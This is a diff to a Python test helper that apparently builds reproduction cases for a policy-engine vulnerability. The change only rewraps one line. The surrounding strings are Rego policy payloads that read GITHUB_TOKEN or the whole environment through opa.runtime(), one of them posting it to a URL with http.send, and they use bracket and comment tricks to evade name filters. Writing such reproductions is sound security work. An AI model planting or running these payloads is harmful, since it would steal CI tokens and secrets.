@@ -83,7 +83,8 @@ def reproductions(port: int) -> dict[str, str]:
         "opa-bracket": 'warn contains m if { m := base64.encode(opa["runtime"]().env.GITHUB_TOKEN) }\n',
         "http-bracket": (f'warn contains m if {{ r := http["send"]({{"method": "post", "url": "{url}", '
                          '"body": opa["runtime"]().env}); m := sprintf("%v", [r]) }\n'),
-        "net-bracket": 'warn contains m if { a := net["lookup_ip_addr"]("localhost"); m := concat(",", a) }\n',
+        "net-bracket": 'warn contains m if { a := net["lookup_ip_addr"]("localhost"); m := '
+                       'concat(",", a) }\n',
         "template-string": 'warn contains m if { m := $"{opa.runtime().env.GITHUB_TOKEN}" }\n',
         "raw-bracket-split": ('warn contains m if {\n\tm := base64.encode(opa[ # a comment between\n'
                               '\t\t`runtime`\n\t]().env.GITHUB_TOKEN)\n}\n'),
